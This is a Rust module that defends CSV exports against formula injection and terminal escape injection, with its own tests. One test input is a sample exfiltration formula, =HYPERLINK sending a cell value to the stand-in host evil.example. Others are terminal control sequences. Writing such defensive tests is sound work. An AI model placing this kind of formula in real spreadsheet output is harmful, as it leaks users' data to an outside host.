//! CSV cells a spreadsheet cannot run and a terminal cannot act on: every value in trailcase's
//! CSV comes from evidence an attacker may have written (user agents, targets, error codes, even
//! eventIDs and file names).
//!
//! Every control character (C0 such as NUL, ESC, BEL, tab, CR and line feed; DEL; C1 such as
//! U+009B, a terminal's CSI) and every bidirectional override or isolate (which reorders what a
//! spreadsheet or terminal shows) is written as `\u{hex}`, as the PDF and the terminal output
//! write them (`case::printable`); nothing else of the cell changes (a `\` is kept as it is: the
//! JSON formats hold the exact values). Then, as OWASP's "CSV Injection" guidance recommends, a
//! cell that starts with `=`, `+`, `-` or `@` gets a leading `'` (a spreadsheet then shows it as
//! text), and every cell of the file is quoted. This is for CSV only.
//! Pure: no I/O, nothing else of the crate.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula (or shift it into one; a tab
/// or carriage return is escaped before it could).
const FORMULA_START: &[u8] = b"=+-@\t\r";

/// Whether `c` would act on a terminal or reorder what is shown rather than be shown.
fn acts(c: char) -> bool {
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `value` as a CSV cell a spreadsheet shows as text and a terminal prints as it is.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    let cell = if value.chars().any(acts) {
        let mut out = String::with_capacity(value.len() + 8);
        for c in value.chars() {
            if acts(c) {
                out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
            } else {
                out.push(c);
            }
        }
        Cow::Owned(out)
    } else {
        Cow::Borrowed(value)
    };
    match cell.as_bytes().first() {
        Some(b) if FORMULA_START.contains(b) => Cow::Owned(format!("'{cell}")),
        _ => cell,
    }
}

/// A CSV writer with every cell quoted (OWASP: quote the cell as well as prefixing it).
pub fn writer<W: std::io::Write>(out: W, headers: bool) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .has_headers(headers)
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_prefixed_and_others_kept() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
        ] {
            assert_eq!(neutralise(bad), format!("'{bad}"));
        }
        for good in [
            "aws-cli/2.15",
            "203.0.113.7",
            "",
            "a=b",
            "'already",
            "C:\\u{1b}",
        ] {
            assert_eq!(neutralise(good), good);
        }
    }

    #[test]
    fn control_characters_and_overrides_are_escaped_the_rest_kept() {
        assert_eq!(neutralise("\tx"), "\\u{9}x");
        assert_eq!(neutralise("\rx"), "\\u{d}x");
        assert_eq!(
            neutralise("evil\0\u{1b}[31mRED\u{9b}2J\u{7}\u{7f}\u{202e}é\\n\n"),
            "evil\\u{0}\\u{1b}[31mRED\\u{9b}2J\\u{7}\\u{7f}\\u{202e}é\\n\\u{a}"
        );
        assert_eq!(neutralise("=1\u{1b}"), "'=1\\u{1b}");
    }

    proptest::proptest! {
        /// What the `csv_cell` fuzz target checks, on generated text in every `cargo test`.
        #[test]
        fn any_text_reads_back_as_inert_text(text in "[=+@\\t\\r\\-\"',a-z\\n \\x00\\x1b\\x7f\\u{9b}\\u{202e}\\\\]{0,12}") {
            let mut w = writer(Vec::new(), false);
            w.write_record([neutralise(&text).as_ref(), "x"]).unwrap();
            let bytes = w.into_inner().unwrap();
            let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
            let back = r.records().next().unwrap().unwrap();
            let first = back.get(0).unwrap();
            proptest::prop_assert!(!first.starts_with(['=', '+', '-', '@', '\t', '\r']));
            proptest::prop_assert!(!first.chars().any(acts));
            let shown = first.strip_prefix('\'').filter(|_| !text.starts_with('\'')).unwrap_or(first);
            let escaped: String = text
                .chars()
                .map(|c| if acts(c) { format!("\\u{{{:x}}}", u32::from(c)) } else { c.to_string() })
                .collect();
            proptest::prop_assert_eq!(shown, escaped.as_str());
        }
    }

    #[test]
    fn every_cell_is_quoted() {
        let mut w = writer(Vec::new(), false);
        w.write_record(["a", &neutralise("=1+1")]).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "\"a\",\"'=1+1\"\n");
    }
}
